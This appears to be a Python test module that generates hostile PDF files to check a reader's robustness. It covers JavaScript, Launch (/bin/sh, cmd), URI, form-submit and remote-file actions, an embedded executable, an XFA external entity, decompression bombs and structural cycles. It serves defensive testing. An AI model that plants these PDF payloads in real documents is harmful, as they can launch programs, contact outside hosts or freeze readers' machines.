"""Hostile PDF files: actions, attachments, cycles, bombs, lies about pages and objects."""

import zlib
from collections.abc import Callable, Sequence
from functools import partial
from pathlib import Path

from tests.hostile.case import ROWS, Case, Maker, Outside, case
from tests.readers.minipdf import Canvas, Sheet, write_pdf

_XS = (20.0, 50.0, 110.0, 200.0, 330.0, 420.0, 520.0, 570.0)
_YS = (800.0, 770.0, 740.0, 710.0)


def good_page() -> Canvas:
    """A page with the good list in a ruled table."""
    canvas = Canvas()
    canvas.grid(_XS, _YS)
    canvas.words(_XS, _YS, ROWS, size=7)
    return canvas


def good(path: Path, extra: str = "") -> bytes:
    """The bytes of a PDF with the good list; `extra` goes into its catalog."""
    return write_pdf(path, [good_page()], extra).read_bytes()


def written(path: Path, objects: Sequence[str | bytes], trailer: str = "") -> None:
    """Write numbered objects (from 1, the catalog first) with a true cross-reference table."""
    out, offsets = b"%PDF-1.7\n", []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n".encode() + (body.encode() if isinstance(body, str) else body) + b"\nendobj\n"
    table = "".join(f"{offset:010d} 00000 n \n" for offset in offsets)
    start = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n{table}".encode()
    out += f"trailer << /Size {len(objects) + 1} /Root 1 0 R {trailer} >>\nstartxref\n{start}\n%%EOF\n".encode()
    path.write_bytes(out)


def _catalog(extra: str) -> Maker:
    def make(path: Path, outside: Outside) -> None:
        good(path, extra.replace("URL", outside.url).replace("TARGET", str(outside.target)))

    return make


def _attachment(path: Path, _: Outside) -> None:
    body = "<< /Type /EmbeddedFile /Length 4 >> stream\nMZ\x90\x00\nendstream"
    extra = f"/Names << /EmbeddedFiles << /Names [(x.exe) << /Type /Filespec /F (x.exe) /EF << /F {body} >> >>] >> >>"
    good(path, extra)


def _stream(raw: bytes, filters: str = "", extra: str = "") -> bytes:
    return f"<< /Length {len(raw)} {filters} {extra} >>\nstream\n".encode() + raw + b"\nendstream"


def _page(content: str, box: str = "0 0 595 842", resources: str = "") -> str:
    return f"<< /Type /Page /Parent 2 0 R /MediaBox [{box}] /Contents {content} /Resources << {resources} >> >>"


_ROOT = "<< /Type /Catalog /Pages 2 0 R >>"
_ONE = "<< /Type /Pages /Kids [3 0 R] /Count 1 >>"


def _one_page(
    content: bytes | Callable[[], bytes], *, box: str = "0 0 595 842", resources: str = "", filters: str = ""
) -> Maker:
    def make(path: Path, _: Outside) -> None:
        raw = content() if callable(content) else content
        written(path, [_ROOT, _ONE, _page("4 0 R", box, resources), _stream(raw, filters)])

    return make


def _lines() -> bytes:
    return b"".join(b"%d %d m %d %d l S\n" % (n % 595, n % 842, n % 590, n % 840) for n in range(400_000))


def _tree_cycle(path: Path, _: Outside) -> None:
    written(path, [_ROOT, "<< /Type /Pages /Kids [3 0 R] /Count 5 >>", "<< /Type /Pages /Kids [2 0 R] /Count 5 >>"])


def _deep_tree(path: Path, _: Outside) -> None:
    deep = 10_000
    kids = [
        f"<< /Type /Pages /Kids [{number + 1} 0 R] /Count 1 /Parent {number - 1} 0 R >>" for number in range(3, deep)
    ]
    leaf = f"<< /Type /Page /Parent {deep - 1} 0 R /MediaBox [0 0 595 842] >>"
    written(path, [_ROOT, "<< /Type /Pages /Kids [3 0 R] /Count 1 >>", *kids, leaf])


def _pages(count: int) -> Maker:
    def make(path: Path, _: Outside) -> None:
        write_pdf(path, [good_page(), *[Canvas(["BT /F1 9 Tf 50 50 Td (x) Tj ET"]) for _ in range(count - 1)]])

    return make


def _claimed_pages(path: Path, _: Outside) -> None:
    written(path, [_ROOT, "<< /Type /Pages /Kids [3 0 R] /Count 2000000000 >>", _page("4 0 R"), _stream(b"")])


def _huge_image(path: Path, _: Outside) -> None:
    packed = zlib.compress(bytes(8 * 1024 * 1024), 9)
    image = "/Type /XObject /Subtype /Image /Width 60000 /Height 60000 /BitsPerComponent 8 /ColorSpace /DeviceRGB"
    page = _page("4 0 R", resources="/XObject << /I 5 0 R >>")
    draw = _stream(b"q 595 0 0 842 0 0 cm /I Do Q")
    written(path, [_ROOT, _ONE, page, draw, _stream(packed, "/Filter /FlateDecode", image)])


def _huge_page_image(path: Path, _: Outside) -> None:
    packed = zlib.compress(bytes(1000 * 1000), 9)
    image = "/Type /XObject /Subtype /Image /Width 1000 /Height 1000 /BitsPerComponent 8 /ColorSpace /DeviceGray"
    page = _page("4 0 R", "0 0 14400000 14400000", "/XObject << /I 5 0 R >>")
    draw = _stream(b"q 14400000 0 0 14400000 0 0 cm /I Do Q")
    written(path, [_ROOT, _ONE, page, draw, _stream(packed, "/Filter /FlateDecode", image)])


def _bad_xref(path: Path, _: Outside) -> None:
    raw = good(path)
    path.write_bytes(raw.replace(b"startxref\n", b"startxref\n99999999"))


def _xref_loop(path: Path, _: Outside) -> None:
    raw = good(path)
    start = raw.index(b"xref\n")
    path.write_bytes(raw.replace(b"trailer <<", f"trailer << /Prev {start}".encode()))


def _packed_content(size: int, times: int) -> bytes:
    raw = b" " * size
    for _ in range(times):
        raw = zlib.compress(raw, 9)
    return raw


def _form_cycle(path: Path, _: Outside) -> None:
    head = "/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 5 0 R /Y 5 0 R >> >>"
    page = _page("4 0 R", resources="/XObject << /X 5 0 R >>")
    written(path, [_ROOT, _ONE, page, _stream(b"/X Do"), _stream(b"/X Do /Y Do", extra=head)])


def _form_fan(path: Path, _: Outside) -> None:
    """Forms that draw the next one twice: 2 to the power of 30 objects from 30."""
    objects: list[str | bytes] = [_ROOT, _ONE, _page("4 0 R", resources="/XObject << /X 5 0 R >>"), _stream(b"/X Do")]
    for number in range(5, 35):
        names = f"/Resources << /XObject << /X {number + 1} 0 R >> >>" if number < 34 else ""
        objects.append(_stream(b"/X Do /X Do", extra=f"/Type /XObject /Subtype /Form /BBox [0 0 9 9] {names}"))
    written(path, objects)


def _deep_arrays(path: Path, _: Outside) -> None:
    deep = "[" * 200_000 + "]" * 200_000
    written(path, [f"<< /Type /Catalog /Pages 2 0 R /X {deep} >>", _ONE, _page("4 0 R"), _stream(b"")])


def _self_font(path: Path, _: Outside) -> None:
    font = (
        "<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding /Identity-H /DescendantFonts [5 0 R] /ToUnicode 5 0 R >>"
    )
    page = _page("4 0 R", resources="/Font << /F 5 0 R >>")
    written(path, [_ROOT, _ONE, page, _stream(b"BT /F 9 Tf (abc) Tj ET"), font])


def _cut(path: Path, _: Outside) -> None:
    raw = good(path)
    path.write_bytes(raw[: len(raw) // 3])


def _locked(path: Path, _: Outside) -> None:
    raw = good(path)
    path.write_bytes(
        raw.replace(b"trailer <<", b"trailer << /Encrypt << /Filter /Standard /V 4 /R 4 /O (x) /U (y) /P -1 >>")
    )


def _turned(path: Path, _: Outside) -> None:
    write_pdf(
        path, [good_page(), Sheet(good_page(), rotate=90 * 10**7), Sheet(good_page(), crop=(9e9, 9e9, -9e9, -9e9))]
    )


def cases() -> list[Case]:
    """All hostile PDF files."""
    none = ("NO_LIST", "DAMAGED", "TOO_LARGE", "TIMED_OUT")
    numbers = b"1e308 w -1e308 nan m 99999999999999999999 1 l S BT /F1 1e38 Tf 1e30 0 0 1e30 0 0 Tm (x) Tj ET"
    nested = partial(_packed_content, 400 * 1024 * 1024, 3)
    return [
        case("脚本.pdf", _catalog("/OpenAction << /S /JavaScript /JS (app.launchURL\\('URL'\\); while\\(1\\);) >>")),
        case("启动程序.pdf", _catalog("/OpenAction << /S /Launch /F (/bin/sh) /Win << /F (cmd) /P (TARGET) >> >>")),
        case(
            "打开网址.pdf", _catalog("/OpenAction << /S /URI /URI (URL) >> /AA << /WC << /S /SubmitForm /F (URL) >> >>")
        ),
        case("附件.pdf", _attachment),
        case("远程文件.pdf", _catalog("/OpenAction << /S /GoToR /F (\\\\\\\\192.0.2.1\\\\x) /D [0 /Fit] >>")),
        case(
            "表单实体.pdf",
            _catalog("/AcroForm << /Fields [] /XFA (<!DOCTYPE a [<!ENTITY b SYSTEM 'URL'>]><a>&b;</a>) >>"),
        ),
        case("页树成环.pdf", _tree_cycle, *none),
        case("一万层页树.pdf", _deep_tree, *none),
        case("一万零一页.pdf", _pages(10_001), "TOO_LARGE", slow=True),
        case("一万页.pdf", _pages(10_000), slow=True),
        case("自称二十亿页.pdf", _claimed_pages, *none),
        case("巨幅页面.pdf", _one_page(b"0 0 m 1e9 1e9 l S", box="0 0 1e9 1e9"), *none),
        case("负幅页面.pdf", _one_page(b"0 0 m 9 9 l S", box="100 100 -5 -5"), *none),
        case("巨幅图片.pdf", _huge_image, *none),
        case("巨幅扫描页.pdf", _huge_page_image, *none),
        case("坏的交叉引用.pdf", _bad_xref, "read", "DAMAGED"),
        case("交叉引用成环.pdf", _xref_loop, "read", "DAMAGED"),
        case(
            "套三层压缩.pdf",
            _one_page(nested, filters="/Filter [/FlateDecode /FlateDecode /FlateDecode]"),
            *none,
            slow=True,
        ),
        case("内容炸弹.pdf", _one_page(partial(_packed_content, 100 << 20, 1), filters="/Filter /FlateDecode"), *none),
        case("图形自引.pdf", _form_cycle, *none, slow=True),
        case("图形倍增.pdf", _form_fan, *none, slow=True),
        case("二十万层数组.pdf", _deep_arrays, *none),
        case("字体自引.pdf", _self_font, *none),
        case("没传完.pdf", _cut, "DAMAGED", "NO_LIST"),
        case("未知加密.pdf", _locked, "ENCRYPTED", "DAMAGED"),
        case("四十万条线.pdf", _one_page(_lines), *none, slow=True),
        case("无穷大数.pdf", _one_page(numbers), *none),
        case("转一亿度.pdf", _turned),
    ]
